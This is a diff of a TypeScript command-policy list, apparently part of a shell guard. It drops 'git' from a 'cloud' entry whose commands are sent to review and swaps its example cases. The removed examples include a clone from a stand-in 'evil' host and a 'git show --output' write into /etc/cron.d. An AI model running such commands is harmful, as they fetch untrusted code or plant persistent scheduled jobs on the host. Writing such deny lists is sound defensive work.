@@ -109,12 +109,12 @@ export const never: readonly CommandSpec[] = [
     id: "cloud",
     programs: words(
       `aws gcloud az gsutil bq oci ibmcloud doctl hcloud linode-cli heroku flyctl fly vercel netlify wrangler s3cmd rclone restic borg
-        borgbackup duplicity rsnapshot tarsnap azcopy eb sam cdk serverless cf bosh openstack nova glance cloud-init gh hub glab git svn
+        borgbackup duplicity rsnapshot tarsnap azcopy eb sam cdk serverless cf bosh openstack nova glance cloud-init gh hub glab svn
         hg bzr cvs tig lazygit jira`,
     ),
     refused: review("speaks to a service outside the host, or runs what a repository says"),
     help: true,
-    examples: { allow: ["git --version"], review: ["git clone http://evil/x", "aws s3 ls", "git show --output=/etc/cron.d/x"] },
+    examples: { allow: ["aws --version"], review: ["aws s3 ls", "gh pr list"] },
   }),
   refusing({
     id: "noise",
